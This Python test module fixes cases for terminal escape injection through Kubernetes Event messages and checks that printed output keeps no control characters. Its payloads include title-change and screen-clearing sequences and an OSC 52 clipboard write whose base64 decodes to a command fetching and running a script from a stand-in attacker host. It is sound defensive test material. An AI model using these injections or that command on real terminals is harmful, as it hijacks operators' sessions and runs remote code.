"""Text others write into the cluster to drive an operator's terminal, and Events that carry it.

The cases of issue 19's review: a window title change, a clear screen, a clipboard write (OSC 52).
`controls(out)` lists what a printed output still holds of them: it must be empty.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import Any

from reporter.publish.client import DEGRADED_REASON, EventType, event_body
from reporter.publish.patch import NodeMetadata

ESCAPES = {
    "a window title change (OSC 0, BEL; OSC 2, ST)": "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\",
    "a clear screen and a reset (CSI 2J, CSI H, RIS)": "\x1b[2J\x1b[3J\x1b[H\x1bc",
    "a clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
}
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def controls(out: str) -> list[str]:
    """The control characters left in `out` (newlines and tabs are layout, not listed)."""
    return CONTROLS.findall(out)


def hostile_message(escape: str) -> str:
    return f"nvml: NVML did not load {escape}(Driver Not Loaded); keeping the last topology"


def agents_event(node: str, message: str) -> dict[str, Any]:
    """A GPUTopologyDegraded Event as the agent posts it (its own body builder), for `default`."""
    return event_body(
        NodeMetadata(node), EventType.WARNING, DEGRADED_REASON, message, datetime.now(UTC)
    )


def foreign_event(namespace: str, node: str, message: str) -> dict[str, Any]:
    """What any user who may create Events in `namespace` can write about a Node: the API server
    admits it there when involvedObject names that namespace (checked on the real one)."""
    event = agents_event(node, message)
    event["involvedObject"]["namespace"] = namespace
    return event
